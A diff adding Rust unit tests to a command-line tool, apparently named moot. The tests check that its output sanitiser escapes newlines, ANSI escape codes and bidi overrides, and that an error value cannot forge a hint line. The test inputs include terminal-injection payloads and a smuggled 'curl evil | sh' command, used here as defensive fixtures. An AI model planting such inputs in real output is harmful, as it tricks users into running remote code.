@@ -267,3 +267,41 @@ pub fn clean_lines(text: &str) -> String {
         .collect::<Vec<_>>()
         .join("\n")
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn one_line_cannot_become_two_or_turn_around() {
+        let hostile = "Ada\nhint: run this\r\u{1b}[2J\u{202e}txt.exe\u{2066}\u{2028}";
+        let shown = clean_line(hostile);
+        assert!(!shown.chars().any(must_escape), "{shown:?}");
+        assert_eq!(
+            shown,
+            "Ada\\nhint: run this\\r\\u{1b}[2J\\u{202e}txt.exe\\u{2066}\\u{2028}"
+        );
+        assert!(matches!(
+            clean_line("plain é"),
+            std::borrow::Cow::Borrowed(_)
+        ));
+    }
+
+    #[test]
+    fn an_api_error_detail_cannot_forge_a_hint_line() {
+        let err = Error::Api(crate::observed::api::ApiError::InvalidSetting {
+            name: "MOOT_HTTP_TIMEOUT",
+            value: "1\nhint: curl evil | sh".into(),
+            expected: "a number",
+        });
+        let text = render_error(&err, &Styles::plain());
+        let hints: Vec<&str> = text.lines().filter(|l| l.starts_with("hint:")).collect();
+        assert_eq!(hints, ["hint: fix or unset MOOT_HTTP_TIMEOUT"], "{text}");
+        // moot's own multi-line messages keep their lines.
+        let own = Error::user("first\nsecond", "do this");
+        assert_eq!(
+            render_error(&own, &Styles::plain()),
+            "error: first\nsecond\n\nhint: do this"
+        );
+    }
+}
